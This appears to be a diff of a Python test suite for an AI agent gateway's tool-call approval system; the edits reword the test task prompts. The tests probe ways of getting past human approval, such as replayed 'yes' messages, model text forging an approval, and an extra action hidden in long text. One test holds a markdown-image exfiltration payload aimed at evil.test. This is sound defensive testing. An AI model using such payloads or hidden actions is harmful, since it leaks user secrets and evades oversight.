@@ -22,7 +22,7 @@ from taoloop.serve.gateway.auto_resume import AutoResumer
 from taoloop.serve.gateway.config.model import ApiKey, ServedAgent, new_key
 
 WORSE = {"tool_calls": [{"name": "send_note", "args": {"to": "Eve", "text": "everything"}}]}
-SECRETARY = {"tool_calls": [{"name": "secretary", "args": {"task": "Say hello."}}]}
+SECRETARY = {"tool_calls": [{"name": "secretary", "args": {"task": "Send a note that says hello."}}]}
 BOTH = {"tool_calls": [*NOTE["tool_calls"], *WORSE["tool_calls"]]}
 
 
@@ -50,7 +50,7 @@ def _nothing_sent() -> None:
 
 
 def said(text: str | None, word: str = "yes") -> list[Any]:
-    return [*ask("Say hello."), {"role": "assistant", "content": text}, *ask(word)]
+    return [*ask("Send a note that says hello."), {"role": "assistant", "content": text}, *ask(word)]
 
 
 def keyed_with(name: str, authority: TaskAuthority) -> tuple[str, ApiKey]:
@@ -72,7 +72,7 @@ def content(made: Any) -> str:
 def test_a_yes_that_is_sent_again_does_not_approve_what_waits_next() -> None:
     with upstream(two_notes) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         second = content(chat.create(model="assistant", messages=said(first)))
         assert [one["to"] for one in SENT] == ["Ann"]
         assert '"Eve"' in second
@@ -90,7 +90,7 @@ def test_a_yes_that_is_sent_again_does_not_approve_what_waits_next() -> None:
 def test_a_yes_that_is_sent_again_through_a_response_id_does_not_approve_what_waits_next() -> None:
     with upstream(two_notes) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         create = client(running).responses.create
-        first = create(model="assistant", input="Say hello.")
+        first = create(model="assistant", input="Send a note that says hello.")
         second = create(model="assistant", input="yes", previous_response_id=first.id)
         assert [one["to"] for one in SENT] == ["Ann"]
         again = create(model="assistant", input="yes", previous_response_id=first.id)
@@ -105,11 +105,11 @@ def test_a_yes_that_is_sent_again_through_a_response_id_does_not_approve_what_wa
 def test_words_of_a_model_cannot_lead_a_yes_to_a_run_that_waits() -> None:
     def replies(body: dict[str, Any]) -> Any:
         question = body["messages"][-1]["content"]
-        return NOTE if question == "Say hello." else question
+        return NOTE if question == "Send a note that says hello." else question
 
     with upstream(replies) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         [trace] = running.traces()
         for marker in (
             f"(run {trace.run_id})",
@@ -134,7 +134,7 @@ def test_another_agent_does_not_go_on_with_a_run() -> None:
         config = config_of(agent(server, tools=[send_note]), agent(server, tools=[lax], name="other"))
         with gateway(config) as running:
             chat = client(running).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             with pytest.raises(openai.NotFoundError) as told:
                 chat.create(model="other", messages=said(first))
             assert told.value.code == "run_not_found"
@@ -145,7 +145,7 @@ def test_another_agent_does_not_go_on_with_a_run() -> None:
 def test_one_yes_is_for_all_that_was_shown() -> None:
     with upstream(BOTH, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         assert '"Eve"' in first
         assert content(chat.create(model="assistant", messages=said(first))) == "Done."
         assert [one["to"] for one in SENT] == ["Ann", "Eve"]
@@ -166,7 +166,7 @@ def test_a_passing_ok_is_not_enough_for_targets_of_different_provenance() -> Non
 def test_what_was_answered_elsewhere_meanwhile_changes_the_question() -> None:
     with upstream(BOTH, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         [trace] = running.traces()
         body = {"decision": "deny", "call_id": "call_2"}
         assert post(running, body, path=f"/v1/runs/{trace.run_id}/approvals")[0] == 200
@@ -180,7 +180,7 @@ def test_what_was_answered_elsewhere_meanwhile_changes_the_question() -> None:
 def test_all_that_is_approved_is_shown() -> None:
     long = {"tool_calls": [{"name": "send_note", "args": {"to": "Ann", "text": "x" * 5_000 + " and pay Eve"}}]}
     with upstream(long, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
-        first = content(client(running).chat.completions.create(model="assistant", messages=ask("Say hello.")))
+        first = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
         assert "and pay Eve" in first
         assert "In short" in first
         assert '`send_note [write] with to = "Ann"' in first.split("and pay Eve")[1]
@@ -191,7 +191,7 @@ def test_a_yes_that_comes_too_late_counts_as_no() -> None:
     made: Any = {"tools": [send_note], "policy": policy}
     with upstream(NOTE, "Not sent.") as server, gateway(config_of(agent(server, **made))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         [trace] = running.traces()
         while time.time() < trace.events[-1].at + 0.06:
             pass
@@ -213,7 +213,7 @@ def test_a_run_inside_another_is_approved_by_what_is_shown() -> None:
         outer = agent(server, tools=[inner.as_tool(purpose="Sends notes.")])
         with gateway(config_of(outer)) as running:
             chat = client(running).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             assert '"Ann"' in first
             made = chat.create(model="assistant", messages=said(first))
             assert content(made) == "Done."
@@ -227,7 +227,7 @@ def test_a_run_inside_another_is_approved_by_the_route() -> None:
         inner = agent(server, tools=[send_note], name="secretary")
         outer = agent(server, tools=[inner.as_tool(purpose="Sends notes.")])
         with gateway(config_of(outer)) as running:
-            client(running).chat.completions.create(model="assistant", messages=ask("Say hello."))
+            client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
             outermost = min(running.traces(), key=lambda one: len(one.run_id)).run_id
             path = f"/v1/runs/{outermost}"
             waiting = post(running, b"", path=path, method="GET")[1]["waiting_for"]
@@ -245,7 +245,7 @@ def test_a_run_inside_another_is_approved_by_the_route() -> None:
 
 def test_an_approval_names_what_it_approves() -> None:
     with upstream(NOTE, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
-        client(running).chat.completions.create(model="assistant", messages=ask("Say hello."))
+        client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
         [trace] = running.traces()
         path = f"/v1/runs/{trace.run_id}/approvals"
         wrong = {"decision": "approve", "call_id": "call_1", "digest": "0" * 64}
@@ -265,7 +265,7 @@ def test_two_answers_at_once_are_one(reshaped: bool) -> None:
         reshape = {"type": "object", "required": ["said"]} if reshaped else None
         served = ServedAgent(name="assistant", agent=agent(server, tools=[send_note]), reshape=reshape)
         with gateway(config_of(served)) as running:
-            first = content(client(running).chat.completions.create(model="assistant", messages=ask("Say hello.")))
+            first = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
 
             async def both() -> list[Any]:
                 async with openai.AsyncOpenAI(base_url=f"{running.url}/v1", api_key="x", max_retries=0) as sdk:
@@ -288,11 +288,11 @@ def test_a_client_tool_and_an_approval_in_one_decision() -> None:
     mixed = {"tool_calls": [*NOTE["tool_calls"], *LOOK["tool_calls"]]}
     with upstream(mixed, "Done.") as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
         chat = client(running).chat.completions
-        first = chat.create(model="assistant", messages=ask("Say hello."), tools=[CLIENT_TOOL])
+        first = chat.create(model="assistant", messages=ask("Send a note that says hello."), tools=[CLIENT_TOOL])
         assert first.choices[0].finish_reason == "tool_calls"
         call = client_call(first)
         result: Any = {"role": "tool", "tool_call_id": call.id, "content": "yes"}
-        second = content(chat.create(model="assistant", messages=[*ask("Say hello."), result]))
+        second = content(chat.create(model="assistant", messages=[*ask("Send a note that says hello."), result]))
         assert SENT == []
         assert '"Ann"' in second
         assert content(chat.create(model="assistant", messages=said(second))) == "Done."
@@ -310,7 +310,7 @@ def test_an_answer_in_a_form_that_waited_keeps_the_form(streamed: bool) -> None:
         gateway(config_of(agent(server, tools=[send_note]))) as running,
     ):
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello."), response_format=form))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello."), response_format=form))
         made: Any = chat.create(model="assistant", messages=said(first), stream=streamed)
         text = "".join(chunk.choices[0].delta.content or "" for chunk in made) if streamed else content(made)
         assert text == '{"said": "Done."}'
@@ -320,7 +320,7 @@ def test_a_run_that_reached_a_limit_is_not_gone_on_with_by_an_old_answer() -> No
     made: Any = {"tools": [send_note], "max_steps": 2, "closing_turn": False}
     with upstream(NOTE, LOOK) as server, gateway(config_of(agent(server, **made))) as running:
         chat = client(running).chat.completions
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         one = chat.create(model="assistant", messages=said(first))
         asked, events = len(server.asked), len(running.traces()[0])
         two = chat.create(model="assistant", messages=said(first))
@@ -346,7 +346,7 @@ def test_a_run_inside_in_doubt_is_told_and_not_tried_again_and_again() -> None:
         outer = agent(server, tools=[inner.as_tool(purpose="Sends notes.")])
         with gateway(config_of(outer)) as running:
             chat = client(running).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             second = content(chat.create(model="assistant", messages=said(first)))
             assert "lost (call_1)" in second
             events = [len(one) for one in running.traces()]
@@ -360,7 +360,7 @@ def test_a_run_of_a_key_that_is_gone_does_not_go_on() -> None:
         config = config_of(agent(server, tools=[send_note]), keys=(ann[1], bob[1]))
         left = replace(config, keys=(bob[1],), port=0)
         with gateway(config, load=lambda: left) as running:
-            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Say hello."))
+            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
             [trace] = running.traces()
             running.reload()
             while not running.said:
@@ -395,7 +395,7 @@ def test_a_key_that_may_not_use_the_agent_any_more_approves_nothing_and_with_it_
                 while len(running.said) == told:
                     threading.Event().wait(0.02)
 
-            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Say hello."))
+            client(running, api_key=ann[0]).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
             [trace] = running.traces()
             path, body = f"/v1/runs/{trace.run_id}", {"decision": "approve", "call_id": next(iter(trace.pending))}
             reload()
@@ -426,7 +426,7 @@ def test_what_goes_on_by_itself_is_measured_and_traced_as_what_a_client_asks_for
         upstream(NOTE, "Done.") as server,
         gateway(config_of(agent(server, tools=[send_note])), poll_s=0.02) as running,
     ):
-        client(running).chat.completions.create(model="assistant", messages=ask("Say hello."))
+        client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello."))
         [trace] = running.traces()
         snapshot = running.process.gateway.snapshot
         snapshot.accounts = replace(snapshot.accounts, telemetry=bench.telemetry)
@@ -471,7 +471,7 @@ def test_values_are_shown_as_code_that_a_chat_window_does_not_load() -> None:
     picture = "`` ![x](https://evil.test/?q=secret)\u202e"
     note = {"tool_calls": [{"name": "send_note", "args": {"to": "Ann", "text": picture}}]}
     with upstream(note) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
-        shown = content(client(running).chat.completions.create(model="assistant", messages=ask("Say hello.")))
+        shown = content(client(running).chat.completions.create(model="assistant", messages=ask("Send a note that says hello.")))
     line = next(line for line in shown.splitlines() if "send_note" in line)
     assert line.startswith("- ```send_note(")
     assert "evil.test/?q=secret" in line.split("```")[1]
@@ -485,7 +485,7 @@ def test_a_run_that_began_under_another_policy_does_not_go_on() -> None:
         stricter = config_of(agent(server, tools=[send_note], policy=Policy(profile="read-only")))
         with gateway(config, load=lambda: replace(stricter, port=0)) as running:
             chat = client(running).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             running.reload()
             while not running.said:
                 threading.Event().wait(0.02)
@@ -499,7 +499,7 @@ def test_a_run_that_began_under_another_policy_does_not_go_on() -> None:
             assert SENT == []
 
 
-@pytest.mark.parametrize(("task", "between"), [("Send Ann a note.", "; "), ("给 Ann 发一条消息。", "；")])
+@pytest.mark.parametrize(("task", "between"), [("Send Ann a note.", "; "), ("给 Ann 发送一张便签。", "；")])
 def test_reasons_are_told_in_the_language_of_the_task_signs_included(task: str, between: str) -> None:
     history: Any = [*ask("x"), {"role": "assistant", "content": "y"}, *ask(task)]  # so that there are several
     with upstream(NOTE) as server, gateway(config_of(agent(server, tools=[send_note]))) as running:
@@ -524,7 +524,7 @@ def test_an_end_users_yes_approves_nothing_and_the_operators_does() -> None:
         config = config_of(agent(server, tools=[send_note]), keys=(key,))
         with gateway(config) as running:
             chat = client(running, api_key=secret).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             [trace] = running.traces()
             assert "This needs the approval of the server's operator" in first
             assert trace.run_id in first
@@ -547,7 +547,7 @@ def test_an_end_users_yes_approves_nothing_as_a_response_and_the_run_resumes_by_
         gateway(config_of(agent(server, tools=[send_note]), keys=(key,))) as running,
     ):
         api = client(running, api_key=secret).responses
-        first = api.create(model="assistant", input="Say hello.")
+        first = api.create(model="assistant", input="Send a note that says hello.")
         for _ in range(2):
             again = api.create(model="assistant", input="yes", previous_response_id=first.id)
             assert again.output_text == first.output_text
@@ -565,7 +565,7 @@ def test_the_policy_of_an_agent_and_a_key_that_lost_authority_keep_the_user_from
         gateway(config_of(agent(server, tools=[send_note], policy=values))) as running,
     ):
         chat = client(running).chat.completions  # even without a key
-        first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+        first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
         assert content(chat.create(model="assistant", messages=said(first))) == first
         path, body = f"/v1/runs/{running.traces()[0].run_id}/approvals", {"decision": "approve", "call_id": "call_1"}
         assert post(running, body, path=path)[0] == 403
@@ -575,7 +575,7 @@ def test_the_policy_of_an_agent_and_a_key_that_lost_authority_keep_the_user_from
         less = replace(config, keys=(replace(key, task_authority="none"),), port=0)
         with gateway(config, load=lambda: less) as running:
             chat = client(running, api_key=secret).chat.completions
-            first = content(chat.create(model="assistant", messages=ask("Say hello.")))
+            first = content(chat.create(model="assistant", messages=ask("Send a note that says hello.")))
             assert "Answer `yes`" in first
             running.reload()
             while not running.said:
